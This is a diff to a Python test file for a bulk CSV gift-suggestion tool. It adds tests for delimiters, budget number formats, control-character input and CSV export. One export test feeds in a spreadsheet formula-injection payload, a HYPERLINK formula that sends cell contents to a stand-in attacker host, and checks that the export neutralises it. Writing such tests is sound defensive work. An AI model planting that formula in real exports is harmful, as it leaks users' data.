@@ -13,7 +13,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from giftgenius.bulk import EXPECTED_HEADER, BulkInputError, BulkResult, RowProblem, analyze
+from giftgenius.bulk import EXPECTED_HEADER, BulkInputError, BulkResult, PersonResult, RowProblem, analyze
 from giftgenius.catalog import load_catalog
 
 CATALOG = load_catalog()
@@ -251,7 +251,14 @@ async def test_binary_junk_is_not_csv() -> None:
 
 
 async def test_text_with_nul_bytes_is_not_csv() -> None:
-    await expect_error("name,department,interests\nAda,Eng,te\x00a\n", "not_csv")
+    error = await expect_error("name,department,interests\nAda,Eng,te\x00a\n", "not_csv")
+    assert "NUL characters" in error.message
+    assert "Send the CSV text itself" in error.hint
+
+
+async def test_text_of_control_characters_is_not_csv() -> None:
+    error = await expect_error("name,department,interests\n" + "\x01\x02\x03" * 20, "not_csv")
+    assert "60 of its first 86 characters are control characters" in error.message
 
 
 async def test_undecodable_bytes_are_not_csv() -> None:
@@ -298,6 +305,64 @@ async def test_invalid_options(options: dict[str, object]) -> None:
     with pytest.raises(BulkInputError) as caught:
         await run(SMALL, **options)
     assert caught.value.code == "invalid_options"
+
+
+# --- delimiters and numbers as spreadsheets write them -------------------------------------------------
+
+
+async def test_semicolon_delimited_with_quoted_cells() -> None:
+    text = (
+        "\ufeffname;department;interests;budget\r\n"
+        '"Lovelace, Ada";"R&D; Labs";"board games;chess";"25,50"\r\n'
+        "Grace Hopper;Ops;coffee, hiking;1.000,00\r\n"
+    )
+    result, recorder = await run(text)
+    assert result.problems == []
+    assert [(p.name, p.department, p.interests, p.budget) for p in result.people] == [
+        ("Lovelace, Ada", "R&D; Labs", ("board games", "chess"), 25.5),
+        ("Grace Hopper", "Ops", ("coffee", "hiking"), 1000.0),
+    ]
+    assert all(person.gifts for person in result.people)
+    assert_progress_is_sound(recorder)
+
+
+async def test_tab_delimited() -> None:
+    text = "name\tdepartment\tinterests\tbudget\nAda\tR&D, Labs\tchess, tea; yoga\t30\n"
+    result, _progress = await run(text)
+    assert [(p.name, p.department, p.interests, p.budget) for p in result.people] == [
+        ("Ada", "R&D, Labs", ("chess", "tea", "yoga"), 30.0)
+    ]
+
+
+async def test_a_comma_file_splits_interests_on_semicolons_only() -> None:
+    result, _progress = await run(make_csv([["Ada", "Eng", "rock, paper; tea", ""]]))
+    assert result.people[0].interests == ("rock, paper", "tea")
+
+
+async def test_a_row_too_wide_is_told_to_quote_the_files_delimiter() -> None:
+    result, _progress = await run("name;department;interests\nAda;Eng;tea\nBo;Eng;tea;x\n")
+    assert result.problems == [
+        RowProblem(3, "has 4 fields but the header has 3; quote any value that contains a semicolon")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("written", "budget"),
+    [
+        ("40", 40.0),
+        ("$45", 45.0),
+        ("40.50", 40.5),
+        ("40,50", 40.5),
+        ("12,5", 12.5),
+        ("1,000", 1000.0),
+        ("1,000.50", 1000.5),
+        ("1.000,50", 1000.5),
+        ("1,234,567", 1234567.0),
+    ],
+)
+async def test_a_budget_may_use_either_decimal_mark(written: str, budget: float) -> None:
+    result, _progress = await run(make_csv([["Ada", "Eng", "tea", written]]))
+    assert result.people[0].budget == budget
 
 
 # --- progress ------------------------------------------------------------------------------------------
@@ -409,6 +474,26 @@ async def test_to_csv_round_trips() -> None:
     assert second[:2] == ["Penny", "Finance"]
     assert second[2:8] == [""] * 6
     assert second[8] == result.people[1].note
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_to_csv_neutralises_cells_a_spreadsheet_would_run() -> None:
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    result, _progress = await run(make_csv([[link, "+cmd", "+cmd; tea", "40"], ["@Bo", "-Ops", "tea", "1"]]))
+    rows = list(csv.reader(io.StringIO(result.to_csv())))
+    assert [row[:2] for row in rows[1:]] == [["'" + link, "'+cmd"], ["'@Bo", "'-Ops"]]
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert [float(price) for price in rows[1][3:8:2]] == [gift["price"] for gift in result.people[0].gifts]
+    assert result.people[0].name == link, "only the export is neutralised; the JSON keeps the input"
+
+
+def test_to_csv_neutralises_gift_names_and_notes() -> None:
+    gift = {"name": "\tTab", "price": 5.0, "category": "x", "reason": "y"}
+    person = PersonResult("\rAda", "Eng", ("tea",), 9.0, [gift], note="-1 for fun")
+    result = BulkResult([person], [], "holiday", 9.0, {"Eng": 1}, {"tea": 1})
+    assert result.to_csv().split("\n")[1] == "'\rAda,Eng,'\tTab,5.00,'-1 for fun"
 
 
 # --- properties ----------------------------------------------------------------------------------------
